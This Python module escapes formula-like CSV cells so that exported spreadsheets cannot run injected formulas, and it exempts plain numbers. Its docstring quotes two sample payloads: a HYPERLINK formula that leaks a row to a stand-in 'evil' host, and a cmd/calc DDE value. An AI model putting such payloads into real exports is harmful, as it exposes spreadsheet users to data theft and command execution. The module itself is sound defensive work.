"""Every CSV the product writes goes through `csv_writer`: no cell can start a spreadsheet formula.

OWASP's CSV injection rule: a cell that starts with `=`, `+`, `-`, `@`, tab or carriage return
is written with a leading `'`, so that a spreadsheet shows it as text instead of running it
(`=HYPERLINK("http://evil/?leak="&B2,"open")` leaks the row to whoever clicks it).

Numbers are the exception. An int or float value, or a text that is a plain decimal number
(`-0.5`, `+3`, `-1e-05`), is written as it is: a spreadsheet reads it as that number and
never as a formula, and prefixing it would turn every negative value into text. Anything
else that merely starts like a number (`-1+cmd|' /C calc'!A0`) is escaped.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Protocol

Cell = str | int | float | None

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


class TextSink(Protocol):
    def write(self, text: str, /) -> object: ...


def safe_cell(value: Cell) -> str | int | float:
    """The value as written: None empty, numbers unchanged, formula-like text prefixed by '."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value[:1] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(value) is None:
        return "'" + value
    return value


# Each cell's first character follows a NUL in "\x00" + "\x00".join(row): one search per row of
# texts (in C) clears the rows with no cell to look at, the common case.
_A_CELL_STARTS_A_FORMULA = re.compile("\x00[=+\\-@\t\r]")


def _texts_without_formulas(row: Sequence[Cell]) -> bool:
    try:
        joined = "\x00".join(row)  # type: ignore[arg-type]  # a TypeError if a cell is no text
    except TypeError:
        return False
    return _A_CELL_STARTS_A_FORMULA.search("\x00" + joined) is None


class SafeCsvWriter:
    """csv.writer with `\\n` line endings whose cells go through `safe_cell`."""

    def __init__(self, sink: TextSink) -> None:
        self._writer = csv.writer(sink, lineterminator="\n")

    def writerow(self, row: Sequence[Cell]) -> None:
        if _texts_without_formulas(row):
            self._writer.writerow(row)
        else:
            self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Sequence[Cell]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(sink: TextSink) -> SafeCsvWriter:
    return SafeCsvWriter(sink)
